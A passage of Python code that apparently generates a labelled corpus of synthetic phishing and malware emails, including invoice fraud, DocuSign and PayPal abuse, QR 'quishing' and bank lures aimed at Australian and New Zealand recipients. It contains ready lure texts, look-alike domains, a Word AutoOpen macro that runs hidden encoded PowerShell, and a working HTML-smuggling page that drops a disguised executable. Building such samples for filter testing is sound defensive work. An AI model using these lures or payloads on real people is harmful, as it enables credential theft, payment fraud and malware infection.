            f"From: {addr('Coastal Plumbing Accounts', sender)}",
            f"To: {addr('Harris Electrical', rcpt)}",
            "Subject: RE: Invoice 10552 - Lot 14 Banksia St",
            "Thread-Topic: Invoice 10552 - Lot 14 Banksia St",
            f"Thread-Index: {b64tok(seed + 'ti', 36)}",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <{store.split('.')[0]}{h(seed + 'm', 16, UPPERNUM)}@{store.upper()}>",
            f"In-Reply-To: <SY4PR01MB{h(seed + 'r', 4, '0123456789')}{h(seed + 'r2', 16, UPPERNUM)}@SY4PR01MB{h(seed + 'r', 4, '0123456789')}.ausprd01.prod.outlook.com>",
            "Accept-Language: en-AU, en-US",
            "Content-Language: en-AU",
            "X-MS-Has-Attach:",
            "x-ms-exchange-senderadcheck: 1"]
    emit("bsb-change-lookalike", "phish", "phishing",
         "Payment-diversion email from a one-letter look-alike of a real supplier's domain (its own M365 tenant, all checks pass) continuing a real invoice thread and giving new BSB/account details.",
         top, hdrs, alt(body_txt, html, bnd(seed, "outlook")))


@msg
def au_docusign_abuse():
    seed, when = "au10", parse_date("2025-03-27 12:04:39 +1100")
    rcpt = "reception@bayside-physio.com.au"
    env = h(seed, 8) + "-" + h(seed + "a", 4) + "-" + h(seed + "b", 4) + "-" + h(seed + "c", 4) + "-" + h(seed + "d", 12)
    url = f"https://au.docusign.net/Signing/EmailStart.aspx?a={env}&etti=24&acct={h(seed + 'ac', 8)}-{h(seed + 'ac2', 4)}-{h(seed + 'ac3', 4)}-{h(seed + 'ac4', 4)}-{h(seed + 'ac5', 12)}&er={h(seed + 'er', 8)}-{h(seed + 'er2', 4)}-{h(seed + 'er3', 4)}-{h(seed + 'er4', 4)}-{h(seed + 'er5', 12)}"
    paras = ['<span style="font-size:16px">Harbourside Property Management sent you a document to review and sign.</span>',
             "<b>Harbourside Property Management</b><br>accounts@harboursidepm-au.com",
             "Please review the updated Lease Renewal &amp; Rent Adjustment 2025 for Suite 4, 118 Bay Road. Access code if required: 4417.",
             ]
    footer = ["<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.",
              "<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.",
              "This message was sent to you by Harbourside Property Management who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request."]
    html = card("Docusign", "#1e4ca1", "docusign", paras, "REVIEW DOCUMENT", url, footer)
    html = html.replace("background:#1e4ca1;border-radius:4px", "background:#ffc820;border-radius:4px").replace(
        'style="color:#ffffff;text-decoration:none;font-weight:bold', 'style="color:#000000;text-decoration:none;font-weight:bold')
    auth = Auth("pass", "dse_AU@docusign.net", "pass", "docusign.net", "mail", "pass", "docusign.net", "REJECT")
    top = delivery("m365", rcpt, "mail-au1.docusign.net", "13.77.52.184", when, auth, seed)
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [dkim_sig("docusign.net", "mail", seed, "from:to:subject:date:message-id:mime-version:content-type:reply-to"),
            f"Received: from docusign.net (127.0.0.1) by DSEAU1AP{h(seed, 3, '0123456789')} with ESMTP; {rfc_utc(when)}",
            f"From: {addr('Harbourside Property Management via Docusign', 'dse_AU@docusign.net')}",
            f"Reply-To: {addr('Harbourside Property Management', 'accounts@harboursidepm-au.com')}",
            f"To: {addr('Bayside Physio Reception', rcpt)}",
            "Subject: Complete with Docusign: Lease Renewal & Rent Adjustment 2025.pdf",
            f"Date: {rfc_utc(when)}",
            f"Message-ID: <{h(seed + 'mid', 32)}@docusign.net>",
            f"X-DocuSign-Envelope-ID: {env.upper()}",
            "X-API-Host: au.docusign.net"]
    emit("docusign-envelope-abuse", "phish", "phishing",
         "Genuine DocuSign envelope (docusign.net passes everything) created by a fraudster's trial account with a look-alike Reply-To; the signed 'lease renewal' document carries the phishing link, so the email itself is clean-looking.",
         top, hdrs, alt(plain(paras, "REVIEW DOCUMENT", url, footer), html, bnd(seed, "sfmc")))


@msg
def au_m365_mfa_qr_pdf():
    seed, when = "au11", parse_date("2025-06-10 08:03:26 +1000")
    rcpt = "amy.chen@bayside-physio.com.au"
    target = "https://login-msonline-auth.azurewebsites.net/?mfa=YW15LmNoZW5AYmF5c2lkZS1waHlzaW8uY29tLmF1"
    pdf = qr_gray_pdf(target, ["Microsoft 365 - Multi-Factor Authentication (MFA) Update", "",
                               "Recipient: amy.chen@bayside-physio.com.au", "",
                               "Your MFA registration expires today. Scan the QR code below with your",
                               "phone camera to re-register and keep access to Outlook and Teams.", "",
                               "IT Service Desk"], "MFA_Update")
    sdom = "eastgippslandcaravans.com.au"
    paras = ["Hello amy.chen,", "Your Microsoft 365 MFA security settings need to be updated. Please review the attached document and complete the update today.", "IT Support"]
    body_txt = "\n\n".join(paras) + "\n"
    auth = Auth("pass", f"sales@{sdom}", "pass", sdom, "default", "pass", sdom, "NONE")
    top = delivery("m365", rcpt, f"cp-syd2.syd-hosting.net.au", "103.27.32.118", when, auth, seed)
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [dkim_sig(sdom, "default", seed),
            f"From: {addr('IT Support - bayside-physio.com.au', 'sales@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Action Required: MFA re-registration for amy.chen",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 32)}@{sdom}>",
            "X-Mailer: Microsoft Outlook 16.0"]
    body = Multi("mixed", bnd(seed), [text(body_txt),
                                      attachment("application/pdf", "MFA_Update_amy.chen.pdf", pdf)])
    emit("m365-mfa-qr-pdf", "phish", "phishing",
         "Quishing: 'MFA re-registration' notice from a compromised caravan dealer's mailbox with a PDF whose only call to action is a QR code pointing to an azurewebsites.net Microsoft login phish.",
         top, hdrs, body)


@msg
def au_invoice_docm():
    seed, when = "au12", parse_date("2024-05-21 14:40:02 +1000")
    rcpt = "admin@redgumcabinets.com.au"
    macro = ('Sub AutoOpen()\n'
             '    Dim s As String\n'
             '    s = "powershell -nop -w hidden -enc " & "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"\n'
             '    CreateObject("WScript.Shell").Run s, 0, False\n'
             'End Sub\n')
    doc = files.docx(["TAX INVOICE INV-20931", "Supplier: Timber Trade Supplies Pty Ltd", "Amount due: $7,418.60 incl GST",
                      "This document is protected. Click Enable Content to view."], "Invoice INV-20931", "accounts", macro)
    sdom = "timbertradesupplies.net"
    paras = ["Hi,", "Please find attached invoice INV-20931 for the Tasmanian oak order delivered last week.", "Payment terms 14 days.", "Regards,", "Accounts Team"]
    body_txt = "\n\n".join(paras) + "\n"
    auth = Auth("pass", f"accounts@{sdom}", "none", "", "", "none", sdom, "NONE")
    top = delivery("m365", rcpt, f"mail.{sdom}", "91.215.85.144", when, auth, seed)
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [f"From: {addr('Timber Trade Supplies', 'accounts@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Invoice INV-20931",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 20)}@{sdom}>"]
    body = Multi("mixed", bnd(seed), [text(body_txt),
                                      attachment("application/vnd.ms-word.document.macroEnabled.12", "INV-20931.docm", doc)])
    emit("invoice-docm-macro", "phish", "malware",
         "Fake supplier invoice to an Australian joinery with a macro-enabled Word document whose AutoOpen macro runs hidden encoded PowerShell.",
         top, hdrs, body)


@msg
def au_gumtree_paypal_fake():
    seed, when = "au13", parse_date("2025-05-30 20:11:57 +1000")
    rcpt = "lachie.dawson@gmail.com"
    sender = "service@paypal-resolutioncentre.com"
    paras = ["<b>You've received $520.00 AUD from Kylie Thompson</b>",
             "Transaction ID: 7HU52118RX4430917<br>Item: Gumtree - Kids bunk bed with mattresses",
             "<b>Payment status: ON HOLD</b>",
             "The buyer has included $120.00 AUD for their courier (Fastway Pickup Service). To protect both parties, the funds will be released to your PayPal balance once you send the courier fee to the buyer's agent and reply to this email with the receipt.",
             "Courier agent PayPal: fastway.pickups.au@gmail.com",
             "This is a PayPal Seller Protection requirement. Failure to comply within 12 hours may result in your account being limited."]
    html = card("PayPal", "#003087", "PayPal", paras, footer=["Copyright &copy; 1999-2025 PayPal. All rights reserved.", "PayPal Australia Pty Limited ABN 93 111 195 389"])
    auth = Auth("pass", sender, "pass", "paypal-resolutioncentre.com", "k1", "pass", "paypal-resolutioncentre.com", "NONE")
    top = delivery("gmail", rcpt, "mail.paypal-resolutioncentre.com", "141.98.11.205", when, auth, seed)
    hdrs = [dkim_sig("paypal-resolutioncentre.com", "k1", seed, when=when),
            f"From: {addr('service@paypal.com.au', sender)}",
            f"Reply-To: {addr('PayPal Resolution', 'paypal.resolution.au@gmail.com')}",
            f"To: {rcpt}",
            "Subject: Notification of payment received",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@paypal-resolutioncentre.com>"]
    emit("gumtree-fake-paypal-courier", "phish", "phishing",
         "Gumtree seller scam: fake PayPal 'payment on hold' notice from a look-alike domain (display name shows service@paypal.com.au) asking the seller to pay a $120 courier fee to a Gmail PayPal address; reply goes to Gmail.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))

# --------------------------------------------------------------------------- New Zealand: attacks

RCPT_REGION.update({"kapitiroofing.co.nz": "SY", "tauranga-accounting.co.nz": "SY"})


@msg
def nz_ird_refund():
    seed, when = "nz1", parse_date("2025-06-05 09:21:44 +1200")
    rcpt = "bev.mcallister@xtra.co.nz"
    url = "https://ird-govt-nz.pages.dev/myir/refund?id=IR-2025-88124"
    sdom = "ird-refunds.co"
    paras = ["Kia ora,",
             "Your income tax assessment for the year ended 31 March 2025 has been completed. You are due a refund of <b>$642.18</b>.",
             "To have the refund paid into your bank account, log in to myIR and confirm your bank account details before 10 June 2025.",
             "Ng&#257; mihi,<br>Inland Revenue | Te Tari Taake"]
    html = card("Inland Revenue", "#00415e", "Inland Revenue - Te Tari Taake", paras, "Log in to myIR", url)
    auth = Auth("pass", f"info@{sdom}", "pass", sdom, "default", "pass", sdom, "NONE")
    top = delivery("mx.xtra.co.nz", rcpt, f"mail.{sdom}", "194.26.135.71", when, auth, seed)
    hdrs = [dkim_sig(sdom, "default", seed),
            f"From: {addr('Inland Revenue', 'myir@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Your tax refund is ready",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@{sdom}>"]
    emit("ird-refund-pages", "phish", "phishing",
         "Inland Revenue refund lure in NZ style (Kia ora / Ngā mihi) from a look-alike .co domain, linking to a pages.dev myIR login and bank-details form.",
         top, hdrs, alt(plain(paras, "Log in to myIR", url), html, bnd(seed)))


@msg
def nz_nzpost_customs():
    seed, when = "nz2", parse_date("2024-10-17 13:45:09 +1300")
    rcpt = "hemi.parata@gmail.com"
    url = "https://nzpost.co.nz.parcel-fee.info/clearance?t=NZ448120573"
    sender = "support@nzpost-clearance.info"
    paras = ["NZ Post",
             "Your international parcel <b>NZ448120573</b> is awaiting customs clearance. A Government charge of <b>$4.80 NZD</b> is outstanding.",
             "Please pay the charge to release your parcel for delivery. Parcels not cleared within 3 days will be returned.",
             ]
    html = card("NZ Post", "#e4002b", "NZ Post", paras, "Pay now", url)
    auth = Auth("pass", sender, "pass", "nzpost-clearance.info", "s1", "pass", "nzpost-clearance.info", "NONE")
    top = delivery("gmail", rcpt, "mail.nzpost-clearance.info", "5.42.223.160", when, auth, seed)
    hdrs = [dkim_sig("nzpost-clearance.info", "s1", seed, when=when),
            f"From: {addr('NZ Post', sender)}",
            f"To: {rcpt}",
            "Subject: NZ Post: customs charge outstanding",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@nzpost-clearance.info>"]
    emit("nzpost-customs-charge", "phish", "phishing",
         "NZ Post customs-charge lure from a look-alike .info domain with a subdomain-trick URL (nzpost.co.nz.parcel-fee.info) to a card-harvesting page.",
         top, hdrs, alt(plain(paras, "Pay now", url), html, bnd(seed)))


@msg
def nz_nzta_toll():
    seed, when = "nz3", parse_date("2025-11-11 07:05:30 +1300")
    rcpt = "janine.wilson@xtra.co.nz"
    url = "https://s.id/nzta-" + h(seed, 5, ALNUM)
    paras = ["NZ Transport Agency Waka Kotahi",
             "Our records show an unpaid toll for a trip on the Northern Gateway Toll Road (SH1) on 06/11/2025. Toll amount: <b>$2.90</b>.",
             "If unpaid by 13/11/2025 an administration fee of $4.20 and a toll payment notice will be issued to the registered person.",
             ]
    html = card("NZTA", "#12365f", "NZ Transport Agency Waka Kotahi", paras, "Pay toll", url)
    auth = Auth("none", "nzta@tolls-nz.online", "none", "", "", "none", "tolls-nz.online", "NONE")
    top = delivery("mx.xtra.co.nz", rcpt, "unknown", "176.65.148.22", when, auth, seed, helo="tolls-nz.online")
    hdrs = [f"From: {addr('NZTA Waka Kotahi', 'nzta@tolls-nz.online')}",
            f"To: {rcpt}",
            "Subject: Unpaid toll notice",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@tolls-nz.online>"]
    emit("nzta-unpaid-toll", "phish", "phishing",
         "Waka Kotahi / NZTA unpaid-toll lure from an unauthenticated .online domain, using the s.id shortener to hide the card-phishing page.",
         top, hdrs, alt(plain(paras, "Pay toll", url), html, bnd(seed)))


@msg
def nz_asb_verify():
    seed, when = "nz4", parse_date("2025-03-12 11:52:18 +1300")
    rcpt = "sam.tuilagi@outlook.com"
    url = "https://asb-co-nz-secure.github.io/fastnet/classic/login.html"
    sdom = "em.thefoodstore-dunedin.co.nz"
    paras = ["Dear ASB Customer,",
             "We're updating our security systems. To keep using FastNet Classic and the ASB Mobile app, you need to verify your details.",
             "Please complete verification within 24 hours. If you don't, your online access will be suspended for your protection.",
             "ASB Bank Limited"]
    html = card("ASB", "#ffd200", "ASB", paras, "Verify now", url).replace("color:#ffffff;text-decoration:none", "color:#000000;text-decoration:none")
    mf = f"bounces+{h(seed, 7, '0123456789')}@{sdom}"
    auth = Auth("pass", mf, "pass", sdom, "s1", "pass", "thefoodstore-dunedin.co.nz", "NONE",
                extra_dkim=[("pass", "sendgrid.net", "smtpapi")])
    top = delivery("outlook", rcpt, f"o1.{sdom}", "167.89.101.18", when, auth, seed)
    hdrs = [dkim_sig("thefoodstore-dunedin.co.nz", "s1", seed, "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to"),
            dkim_sig("sendgrid.net", "smtpapi", seed + "sg", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to"),
            f"Date: {rfc_utc(when)}",
            f"From: {addr('ASB Bank', 'noreply@thefoodstore-dunedin.co.nz')}",
            "Subject: ASB: verify your details to keep access",
            f"Message-ID: <{b64tok(seed, 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-{int(h(seed + 'g', 2, '0123456789'))}>",
            f"To: {rcpt}",
            f"X-Entity-ID: u001.{b64tok(seed + 'ent', 22)}=="]
    emit("asb-verify-githubio", "phish", "phishing",
         "ASB 'verify your details' lure sent via a hijacked SendGrid account of a Dunedin shop, linking to a github.io page cloning FastNet Classic.",
         top, hdrs, alt(plain(paras, "Verify now", url), html, bnd(seed)))


@msg
def nz_trademe_buyer():
    seed, when = "nz5", parse_date("2025-08-02 15:08:11 +1200")
    rcpt = "rachel.kerr@xtra.co.nz"
    sender = "tanyabrooks1971@outlook.com"
    url = "https://trademe-payments.co.nz-confirm.site/receive/TM-5512094"
    lines = ["Hi Rachel,", "",
             "I'm interested in the rimu dining table listed on Trade Me. I'll buy it at your Buy Now price, I've already paid through Trade Me Ping Escrow so it's safe for us both.",
             "",
             f'You just need to confirm your bank details on the payment page to receive the funds: <a href="{url}">{url}</a>',
             "", "My courier will collect it Tuesday. Thanks!", "Tanya"]
    html = outlook_html([l for l in lines if l])
    body_txt = "\n".join(strip_tags(l) for l in lines) + "\n"
    auth = Auth("pass", sender, "pass", "outlook.com", "selector1", "pass", "outlook.com", "NONE")
    top = delivery("mx.xtra.co.nz", rcpt, "SY4PR01CU002.outbound.protection.outlook.com", "40.92.62.71", when, auth, seed)
    hdrs = [dkim_sig("outlook.com", "selector1", seed, "Date:From:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: {addr('Tanya Brooks', sender)}",
            f"To: {addr('', rcpt)}",
            "Subject: Rimu dining table",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <SY7P282MB{h(seed, 4, '0123456789')}{h(seed + 'm', 16, UPPERNUM)}@SY7P282MB{h(seed, 4, '0123456789')}.AUSP282.PROD.OUTLOOK.COM>",
            "Content-Language: en-NZ",
            "X-MS-Has-Attach:",
            "x-ms-exchange-senderadcheck: 1"]
    emit("trademe-buyer-escrow", "phish", "phishing",
         "Trade Me buyer scam from an Outlook.com account claiming payment through a fake escrow and sending the seller to a subdomain-trick 'co.nz-confirm.site' page to steal bank credentials.",
         top, hdrs, alt(body_txt, html, bnd(seed, "outlook")))


@msg
def nz_xtra_mailbox_canva():
    seed, when = "nz6", parse_date("2024-09-24 10:15:40 +1200")
    rcpt = "doug.hemara@xtra.co.nz"
    url = "https://www.canva.com/design/DAG" + h(seed, 8, ALNUM) + "/" + h(seed + "v", 22, ALNUM) + "/view"
    sender = "postmaster@xtra-mailsupport.net"
    paras = ["Xtra Mail",
             "Your mailbox storage is <b>99% full</b> (2.97 GB of 3 GB).",
             "Incoming messages are being held and will be deleted in 48 hours. Please upgrade your storage for free to keep receiving email.",
             ]
    html = card("Xtra Mail", "#1b1b1b", "xtra", paras, "Upgrade storage", url, ["Spark New Zealand Trading Limited"])
    auth = Auth("pass", sender, "pass", "xtra-mailsupport.net", "dkim", "pass", "xtra-mailsupport.net", "NONE")
    top = delivery("mx.xtra.co.nz", rcpt, "host.xtra-mailsupport.net", "45.95.169.41", when, auth, seed)
    hdrs = [dkim_sig("xtra-mailsupport.net", "dkim", seed),
            f"From: {addr('Xtra Mail Support', sender)}",
            f"To: {rcpt}",
            "Subject: Mailbox storage warning",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@xtra-mailsupport.net>"]
    emit("xtra-mailbox-full-canva", "phish", "phishing",
         "Xtra Mail 'mailbox full' credential lure from a look-alike support domain, linking to a Canva-hosted design whose button leads on to the Xtra login phishing page.",
         top, hdrs, alt(plain(paras, "Upgrade storage", url), html, bnd(seed)))


@msg
def nz_builder_onedrive():
    seed, when = "nz7", parse_date("2025-04-15 16:30:25 +1200")
    rcpt = "accounts@kapitiroofing.co.nz"
    sdom = "coleman-builders.co.nz"  # real customer's M365 mailbox, compromised
    sender = f"steve@{sdom}"
    url = "https://u45182931.ct.sendgrid.net/ls/click?upn=u001." + b64tok(seed, 120).replace("/", "-").replace("+", "_")
    paras = ["Hi team,",
             "Steve Coleman has shared a file with you.",
             f'<a href="{url}" style="font-size:16px">Progress Payment Claim 4 - Paraparaumu.pdf</a>',
             "Please review and let me know if any questions before Friday.",
             "Cheers"]
    sig = ["Steve Coleman", "Director | Coleman Builders Ltd", "021 448 120"]
    html = outlook_html(paras, sig)
    body_txt = "\n\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(sig) + "\n"
    auth = Auth("pass", sender, "pass", sdom, "selector2", "pass", sdom, "NONE")
    top = delivery("m365", rcpt, "SY5PR01CU007.outbound.protection.outlook.com", "40.107.163.88", when, auth, seed,
                   helo="SY5PR01CU007.outbound.protection.outlook.com")
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    store = f"SY4PR01MB{h(seed + 's', 4, '0123456789')}.ausprd01.prod.outlook.com"
    hdrs = [dkim_sig(sdom, "selector2", seed, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: {addr('Steve Coleman', sender)}",
            "To: undisclosed-recipients:;",
            "Subject: Steve Coleman shared \"Progress Payment Claim 4\" with you",
            "Thread-Topic: Steve Coleman shared \"Progress Payment Claim 4\" with you",
            f"Thread-Index: {b64tok(seed + 'ti', 24)}",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <{store.split('.')[0]}{h(seed + 'm', 16, UPPERNUM)}@{store.upper()}>",
            "Accept-Language: en-NZ, en-US",
            "Content-Language: en-NZ",
            "X-MS-Has-Attach:",
            "x-ms-exchange-senderadcheck: 1"]
    emit("builder-compromised-share", "phish", "phishing",
         "Compromised NZ builder's real Microsoft 365 mailbox (all checks pass) sends a fake 'shared a file' message to its contacts; the link is a SendGrid click-tracking redirect to a Microsoft login phishing page.",
         top, hdrs, alt(body_txt, html, bnd(seed, "outlook")))


@msg
def nz_html_smuggling():
    seed, when = "nz8", parse_date("2025-09-17 12:10:03 +1200")
    rcpt = "office@tauranga-accounting.co.nz"
    payload = files.zip_archive([("Payment_Advice_0917.pdf.exe", files.pe_stub())])
    blob = base64.b64encode(payload).decode()
    blob_lines = "\n".join(f"'{blob[i:i + 96]}'+" for i in range(0, len(blob), 96))
    page = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Payment Advice</title></head>\n"
            "<body style=\"font-family:Segoe UI,Arial\"><div style=\"text-align:center;margin-top:80px\">\n"
            "<img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\" width=\"1\" height=\"1\">\n"
            "<h3>Your document is downloading...</h3><p>If the download does not start, click <a id=\"d\" href=\"#\">here</a>.</p></div>\n"
            "<script>\nvar b=\n" + blob_lines + "'';\n"
            "var a=atob(b),u=new Uint8Array(a.length);for(var i=0;i<a.length;i++){u[i]=a.charCodeAt(i);}\n"
            "var f=new Blob([u],{type:'application/octet-stream'});var l=document.getElementById('d');\n"
            "l.href=URL.createObjectURL(f);l.download='Payment_Advice_0917.zip';l.click();\n</script>\n</body></html>\n")
    sdom = "ndl-freight.co"
    paras = ["Good afternoon,", "Please find attached payment advice for your invoice. Open in your browser to view.", "Kind regards,", "Accounts Payable"]
    body_txt = "\n\n".join(paras) + "\n"
    auth = Auth("pass", f"ap@{sdom}", "pass", sdom, "mail", "pass", sdom, "NONE")
    top = delivery("m365", rcpt, f"mail.{sdom}", "91.243.44.87", when, auth, seed)
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [dkim_sig(sdom, "mail", seed),
            f"From: {addr('Accounts Payable', 'ap@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Payment Advice - 17/09/2025",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 26)}@{sdom}>"]
    body = Multi("mixed", bnd(seed), [text(body_txt),
                                      attachment("text/html", "Payment_Advice_0917.html", page.encode())])
    emit("payment-advice-html-smuggling", "phish", "malware",
         "HTML-smuggling attachment: a 'payment advice' HTML page that rebuilds a zip holding a .pdf.exe from embedded base64 and forces the download in the browser.",
         top, hdrs, body)

# --------------------------------------------------------------------------- Global brands: attacks

@msg
def g_paypal_invoice_callback():
    seed, when = "g1", parse_date("2025-02-06 13:22:47 -0800")
    rcpt = "bob.leclair@gmail.com"
    inv = "INV2-" + "-".join(h(seed + str(i), 4, UPPERNUM) for i in range(4))
    url = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    paras = ["<b>Norton LifeLock Billing</b> sent you an invoice for <b>$549.99 CAD</b>",
             "Due on receipt",
             "<b>Seller note to customer</b><br>Your Norton 360 Total Protection (5 devices) auto-renewal has been processed. This amount will be charged to your account within 24 hours. "
             "If you did not authorize this renewal or want a refund, contact our billing support immediately at +1 (844) 917-0362.",
             f"Invoice number: 0412<br>Invoice ID: {inv}"]
    footer = ["PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.",
              "Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131."]
    html = card("PayPal", "#003087", "PayPal", paras, "View and Pay Invoice", url, footer)
    auth = Auth("pass", "service@paypal.com", "pass", "paypal.com", "pp-dkim1", "pass", "paypal.com", "REJECT")
    top = delivery("gmail", rcpt, "mx0.slc.paypal.com", "173.0.84.225", when, auth, seed)
    hdrs = [dkim_sig("paypal.com", "pp-dkim1", seed, "Content-Type:Date:To:From:Subject:Message-ID:MIME-Version", when=when),
            "Content-Transfer-Encoding: 7bit",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 16)}.{h(seed + 'x', 12)}@notify.paypal.com>",
            "From: \"service@paypal.com\" <service@paypal.com>",
            f"To: {rcpt}",
            "Subject: Invoice from Norton LifeLock Billing (0412)",
            "X-MaxCode-Template: PPX001075",
            "X-PP-REQUESTED-TIME: " + str(int(when.timestamp()) * 1000),
            "X-PP-Email-transmission-Id: " + f"{h(seed + 't', 8)}-{h(seed + 't2', 4)}-{h(seed + 't3', 4)}-{h(seed + 't4', 4)}-{h(seed + 't5', 12)}",
            "PP-Correlation-Id: " + h(seed + "c", 13),
            "X-Email-Type-Id: PPX001075"]
    hdrs.remove("Content-Transfer-Encoding: 7bit")
    emit("paypal-invoice-norton-callback", "phish", "phishing",
         "Genuine PayPal invoice (paypal.com passes SPF/DKIM/DMARC) created by a scammer's merchant account: the seller note claims a $549.99 Norton renewal and gives a phone number for a refund (callback / remote-access scam).",
         top, hdrs, alt(plain(paras, "View and Pay Invoice", url, footer), html, bnd(seed, "sfmc")))


@msg
def g_geeksquad_pdf_callback():
    seed, when = "g2", parse_date("2024-12-17 10:44:09 +1100")
    rcpt = "margaret.oakes@icloud.com"
    sender = "kasey.ronnie8831@gmail.com"
    pdf = files.pdf(["GEEK SQUAD - ORDER CONFIRMATION", "", "Invoice No: GS-77418-AU       Date: 17/12/2024",
                     "Product: Geek Squad Total Tech Support (3 years)", "Quantity: 1", "Total: AUD $489.99",
                     "Payment: Auto-debit from registered card", "",
                     "Your subscription renews automatically. If you wish to cancel or",
                     "did not place this order, call our support team within 24 hours:", "",
                     "+61 2 8074 3921", "", "Thank you for choosing Geek Squad."], title="Invoice GS-77418")
    body_txt = "Hello,\n\nThank you for your order. Your invoice is attached for your records.\n\nRegards\nBilling Team\n"
    auth = Auth("pass", sender, "pass", "gmail.com", "20230601", "pass", "gmail.com", "NONE")
    top = delivery("icloud", rcpt, "mail-pl1-f182.google.com", "209.85.214.182", when, auth, seed)
    hdrs = [dkim_sig("gmail.com", "20230601", seed, "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", when=when),
            *gmail_sent(seed, when),
            "MIME-Version: 1.0",
            f"From: {addr('Billing Team', sender)}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <CAO{b64tok(seed, 44).replace('/', 'q').replace('+', 'W')}@mail.gmail.com>",
            "Subject: Order Confirmation #GS-77418-AU",
            f"To: {rcpt}"]
    body = Multi("mixed", bnd(seed, "gmail"), [Multi("alternative", bnd(seed + "a", "gmail"), [text(body_txt), text(gmail_html(body_txt.strip().split("\n")), "html")]),
                                                attachment("application/pdf", "Invoice_GS-77418-AU.pdf", pdf)])
    emit("geeksquad-pdf-callback", "phish", "phishing",
         "Callback-invoice scam: short Gmail message with a PDF 'Geek Squad' renewal invoice for $489.99 whose only action is an Australian phone number (leads to remote-access refund fraud).",
         top, hdrs, body)


@msg
def g_icloud_storage():
    seed, when = "g3", parse_date("2025-10-21 19:37:50 +1300")
    rcpt = "tania.ruru@gmail.com"
    url = "https://icloud-storage-plan.blob.core.windows.net/$web/index.html?id=" + h(seed, 12)
    sdom = "cloudstoragealerts.cc"
    paras = ["<b>Your iCloud storage is full.</b>",
             "Your photos and videos will be deleted on 23 October 2025 because your iCloud storage is full.",
             "As part of your loyalty plan, you can get an extra 50 GB of storage for free today.",
             ]
    html = card("iCloud", "#ffffff", "iCloud", paras, "Get 50 GB free", url,
                ["Apple ID | Support | Privacy Policy", "Copyright &copy; 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014"])
    html = html.replace('color:#ffffff">iCloud', 'color:#1d1d1f">iCloud').replace("background:#ffffff;border-radius:4px", "background:#0071e3;border-radius:4px")
    auth = Auth("pass", f"noreply@{sdom}", "pass", sdom, "default", "pass", sdom, "NONE")
    top = delivery("gmail", rcpt, f"mail.{sdom}", "80.76.51.34", when, auth, seed)
    hdrs = [dkim_sig(sdom, "default", seed, when=when),
            f"From: {addr('iCloud', 'noreply@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Your photos will be deleted - iCloud storage full",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@{sdom}>"]
    emit("icloud-storage-full-blob", "phish", "phishing",
         "iCloud 'storage full, photos will be deleted' lure from a throwaway domain, linking to an Azure blob static site that collects card details for a fake free upgrade.",
         top, hdrs, alt(plain(paras, "Get 50 GB free", url), html, bnd(seed)))


@msg
def g_amazon_qr_inline():
    seed, when = "g4", parse_date("2025-05-08 06:50:14 +1000")
    rcpt = "steve.kranz@bigpond.com"
    target = "https://amzn-prime-au.com/billing/update?c=" + h(seed, 16)
    qr = files.qr_png(target)
    html = ('<html><body style="margin:0;font-family:Arial">\n<div style="max-width:480px;margin:0 auto;text-align:center">\n'
            '<p style="font-size:20px;font-weight:bold">amazon prime</p>\n'
            '<p style="font-size:15px">Your Prime membership payment was declined.<br>Scan to update your payment method.</p>\n'
            '<img src="cid:qr' + h(seed, 6) + '" width="220" height="220" alt="">\n'
            '<p style="font-size:11px;color:#777">Ref: PR-AU-' + h(seed + "r", 8, UPPERNUM) + '</p>\n</div></body></html>\n')
    body_txt = "Your Prime membership payment was declined. Scan the QR code to update your payment method.\n"
    sdom = "primebenefits-notice.com"
    auth = Auth("pass", f"info@{sdom}", "pass", sdom, "s1", "pass", sdom, "NONE")
